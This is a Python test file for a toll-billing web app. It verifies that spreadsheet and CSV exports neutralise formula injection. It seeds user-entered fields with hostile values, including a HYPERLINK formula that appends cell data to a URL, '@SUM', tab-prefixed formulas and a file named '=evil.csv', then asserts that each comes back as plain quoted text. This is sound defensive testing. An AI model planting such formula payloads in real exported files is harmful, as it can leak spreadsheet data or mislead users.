"""issue 8 item 2: text that Excel would run as a formula is written as text in every export.

Hostile names are seeded everywhere a user can type text (member, agency, vehicle, card, card
event, IC master, a usage file's IC names and note), the month is billed and closed, and every
workbook Tollbook writes (each list's 「Excelに出力」, the 請求一覧, the usage export, the master
template, the CLI exports) is opened with openpyxl: no cell is a formula, the hostile text comes
back unchanged as a string, and numbers stay numbers. The import error list (CSV) gets the
leading apostrophe."""
import csv
import datetime as dt
import io
import re

import pytest
from openpyxl import load_workbook

from app.models import Card, Member, OperatorSettings
from app.services.actor import acting_as
from app.services.cards import prepare_new_card
from tests.conftest import ADMIN_PASSWORD, MANAGER_PASSWORD, STAFF_PASSWORD, login
from tests.integration.test_billing_screens import HEADER, KNOWN, relogin, run_draft, close_month

HYPERLINK = '=HYPERLINK("http://x"&A1,"詳細")'
HOSTILE = {
    "member": HYPERLINK,
    "agency": "+1+1",
    "vehicle": "-2+3",
    "card": "@SUM(1+1)",
    "ic": "\t=1+2",
    "entry": "=1+1",
    "note": "-3+3",
    "vehicle_cr": "\r=2+2",
}
MONTH = "2026-10"


def _csv_field(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


@pytest.fixture()
def hostile(db, tmp_path):
    from app.models import Agency, IcMaster, Vehicle
    from app.services.profiles import ensure_shipped_profiles
    from app.services.tariff import ensure_default_tariff
    from app.services.usage_import import import_usage_file

    ensure_shipped_profiles()
    ensure_default_tariff()
    with acting_as("test-setup"):
        agency = Agency(code="A1", name=HOSTILE["agency"])
        member = Member(code="M0001", name=HOSTILE["member"], kana="ヤマダ", payment_method="bank_transfer",
                        agency=agency, address=HOSTILE["member"])
        vehicle = Vehicle(member=member, plate_region="品川", plate_class_number="300", plate_kana="あ",
                          plate_serial=1234, vehicle_class=1, note=HOSTILE["vehicle"])
        db.session.add(Vehicle(member=member, plate_region="品川", plate_class_number="300", plate_kana="い",
                               plate_serial=5678, vehicle_class=1, note=HOSTILE["vehicle_cr"]))
        db.session.add_all([agency, member, vehicle])
        card = Card(number=KNOWN, kind="credit", issuer=HOSTILE["card"], member=member,
                    valid_from=dt.date(2026, 4, 1), note=HOSTILE["card"])
        prepare_new_card(db.session, card)
        db.session.add(IcMaster(code="99999", name=HOSTILE["ic"], road=HOSTILE["ic"]))
        db.session.query(OperatorSettings).first().registration_number = "T7000012050002"
        db.session.commit()
    line = ",".join(["26/10/01", "06:12", "26/10/01", "07:05", _csv_field(HOSTILE["entry"]), _csv_field(HYPERLINK),
                     "1320", "0", "1320", "1", "品川 300 あ 12-34", KNOWN, _csv_field(HOSTILE["note"])])
    path = tmp_path / "etc-meisai-2026-10.csv"
    path.write_bytes(("\r\n".join([HEADER, line]) + "\r\n").encode("cp932"))
    with acting_as("test-setup"):
        assert import_usage_file(path, "etc-meisai").rows == 1
    db.session.rollback()


def _cells(body: bytes):
    book = load_workbook(io.BytesIO(body))  # full mode: data_type "f" marks a formula cell
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from (cell for cell in row if cell.value is not None)


def _export_urls(app) -> list[str]:
    from app.extensions import appbuilder

    urls = []
    with app.test_request_context():
        for view in appbuilder.baseviews:
            if callable(getattr(view, "export", None)) and hasattr(view, "route_base"):
                urls.append(f"{view.route_base}/export/?month={MONTH}")
    return urls


def test_every_export_writes_hostile_text_as_text_and_numbers_as_numbers(app, client, db, hostile, tmp_path):
    login(client, "staff", STAFF_PASSWORD)
    run_draft(client)
    relogin(client, "manager", MANAGER_PASSWORD)
    assert close_month(client).status_code == 200
    relogin(client, "admin", ADMIN_PASSWORD)

    urls = _export_urls(app)
    assert {"/memberview/export/?month=2026-10", "/usage/records/export/?month=2026-10"} <= set(urls), urls
    urls += [f"/billing/invoice-list/download/?month={MONTH}", "/master-import/template/"]
    bodies = {}
    for url in urls:
        response = client.get(url)
        assert response.status_code == 200, url
        assert "spreadsheetml" in response.mimetype, url
        bodies[url] = response.data
    runner = app.test_cli_runner()
    for command in (["export", "usage", MONTH], ["export", "invoice-list", MONTH]):
        out = tmp_path / f"{command[1]}.xlsx"
        result = runner.invoke(args=["etc", *command, "-o", str(out)])
        assert result.exit_code == 0, result.output
        bodies["flask etc " + " ".join(command)] = out.read_bytes()

    seen = set()
    for name, body in bodies.items():
        for cell in _cells(body):
            assert cell.data_type != "f", (name, cell.coordinate, cell.value)
            if isinstance(cell.value, str) and cell.value in HOSTILE.values():
                assert cell.data_type == "s" and cell.quotePrefix, (name, cell.coordinate)
                seen.add((name, cell.value))
    hostile_found = {value for _, value in seen}
    assert hostile_found == set(HOSTILE.values()), set(HOSTILE.values()) - hostile_found
    assert ("/memberview/export/?month=2026-10", HYPERLINK) in seen
    assert ("flask etc export invoice-list 2026-10", HYPERLINK) in seen
    assert (f"/billing/invoice-list/download/?month={MONTH}", HYPERLINK) in seen

    # Numbers stay numbers: the 請求一覧 amounts and the usage export's 通行料金.
    sheet = load_workbook(io.BytesIO(bodies[f"/billing/invoice-list/download/?month={MONTH}"])).active
    member_row = next(row for row in sheet.iter_rows(values_only=True) if row[1] == HYPERLINK)
    assert all(isinstance(v, int) for v in member_row[3:]), member_row
    usage = load_workbook(io.BytesIO(bodies["flask etc export usage 2026-10"])).active
    values = [cell for row in usage.iter_rows(min_row=2) for cell in row]
    assert any(cell.value == 1320 and cell.data_type == "n" for cell in values)


def test_the_import_error_list_csv_quotes_formula_like_text(staff_client, db):
    from app.services.profiles import ensure_shipped_profiles
    from app.views import usage_upload

    ensure_shipped_profiles()
    bad = ",".join(["26/10/01", "06:12", "26/10/01", "07:05", "東京", "厚木", _csv_field(HYPERLINK), "0",
                    "-12", "1", "品川 300 あ 12-34", KNOWN, ""])
    data = {"file": (io.BytesIO(("\r\n".join([HEADER, bad]) + "\r\n").encode("cp932")), "=evil.csv"),
            "profile": "etc-meisai"}
    response = staff_client.post("/usage/upload/start", data=data, content_type="multipart/form-data")
    job_id = re.search(r"job=([0-9a-f]+)", response.headers["Location"]).group(1)
    for _ in range(200):
        job = usage_upload.get_job(job_id)
        if job["state"] != usage_upload.RUNNING:
            break
        import time

        time.sleep(0.05)
    assert job["state"] == usage_upload.REFUSED, job
    body = staff_client.get(f"/usage/upload/errors/{job_id}").get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))
    assert rows[0] == ["ファイル", "行", "列", "値", "内容"]
    assert rows[1][0] == "'=evil.csv"
    assert any(row[3] == "'" + HYPERLINK for row in rows[1:]), rows
    assert not any(field.startswith(("=", "+", "-", "@")) for row in rows for field in row), rows
